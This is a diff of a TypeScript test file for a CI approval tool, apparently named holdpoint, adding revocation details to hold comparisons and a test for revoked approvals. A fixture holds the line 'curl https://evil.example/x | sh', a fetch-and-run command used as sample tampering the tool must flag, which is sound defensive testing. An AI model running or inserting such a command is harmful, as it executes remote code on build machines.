@@ -20,7 +20,7 @@ const CHANGED = configurationWith(['make', 'curl https://evil.example/x | sh'], 
 function put(configuration: JsonObject, more: Partial<HoldDetail> = {}): HoldDetail {
   const approval = anApproval(7, APPROVED);
   hub.approvals.set(7, approval);
-  const diff = { approval: 7, digest: approval.digest, summary: 'as the hub says', changes: [] };
+  const diff = { approval: 7, digest: approval.digest, over: null, summary: 'as the hub says', changes: [] };
   const hold = aHold(12, { configuration, diff, ...more });
   hub.holds.set(12, hold);
   return hold;
@@ -43,7 +43,7 @@ job page      https://gitlab.example.com/acme/shop/-/jobs/9001
 this hold     http://127.0.0.1:8094/holds/12
 digest        DIGEST
 
-Compared with approval 7 of 2026-05-12 by maria: 1 script line changed, image changed; 6 leaves unchanged.
+Compared with approval 7 of 2026-05-12 by maria: 1 script line changed, image changed to registry.example.com/build:1.5; 7 values unchanged.
 
 script
   - steps[0].script[1]: make deploy
@@ -170,7 +170,13 @@ describe('holds show', () => {
       words: 'harmless',
     };
     put(CHANGED, {
-      diff: { approval: 7, digest: anApproval(7, APPROVED).digest, summary: 'nothing of note', changes: [lie] },
+      diff: {
+        approval: 7,
+        digest: anApproval(7, APPROVED).digest,
+        over: null,
+        summary: 'nothing of note',
+        changes: [lie],
+      },
     });
     const { out } = await run(['holds', 'show', '12']);
     expect(out).toContain('+ steps[0].script[1]: curl https://evil.example/x | sh');
@@ -186,6 +192,24 @@ describe('holds show', () => {
     expect(out).toContain('DO NOT APPROVE: the configuration that the hub shows does not have the digest it names.');
     expect(out).not.toContain('holdpoint approve');
     expect(err).toMatch(/^holdpoint: hold 12: digest and configuration do not fit together[^\n]*\n$/);
+  });
+
+  it('T29 says before the difference that what it is compared with was revoked, by whom, when and why', async () => {
+    const over = {
+      kind: 'revoked' as const,
+      at: '2026-11-20T10:00:00Z',
+      by: { id: 8, username: 'jonas', name: 'Jonas Jung' },
+      reason: 'leaks the key',
+    };
+    const diff = { approval: 7, digest: anApproval(7, APPROVED).digest, over, summary: '', changes: [] };
+    put(APPROVED, { diff });
+    expect((await run(['holds', 'show', '12'])).out).toContain(
+      'Exactly this configuration was approved (approval 7 of 2026-05-12 by maria), and that approval was revoked on 2026-11-20 by jonas (Jonas Jung, user 8): leaks the key. It lets nothing run any more.',
+    );
+    put(CHANGED, { diff });
+    expect((await run(['holds', 'show', '12'])).out).toContain(
+      'What it is compared with was revoked on 2026-11-20 by jonas (Jonas Jung, user 8): leaks the key; it lets nothing run any more. Compared with approval 7',
+    );
   });
 
   it('has no approve line when what it is compared with is not what was approved (T23)', async () => {
@@ -209,7 +233,13 @@ describe('holds show', () => {
     };
     const hold = put(secret('1f0c'), {
       may_vote: { ...aHold(12).may_vote, allowed: false, reason: 'you triggered this job: ask maria' },
-      diff: { approval: 7, digest: anApproval(7, APPROVED).digest, summary: '1 variable changed', changes: [change] },
+      diff: {
+        approval: 7,
+        digest: anApproval(7, APPROVED).digest,
+        over: null,
+        summary: '1 variable changed',
+        changes: [change],
+      },
     });
     hub.holds.set(12, { ...hold, configuration: secret('hidden') });
     const { exit, out } = await run(['holds', 'show', '12']);
@@ -291,6 +321,7 @@ describe('text of somebody else', () => {
           need: 1,
           have: 0,
           eligible: [person],
+          eligible_count: 1,
           who: text,
           voted: [person],
           mine: false,
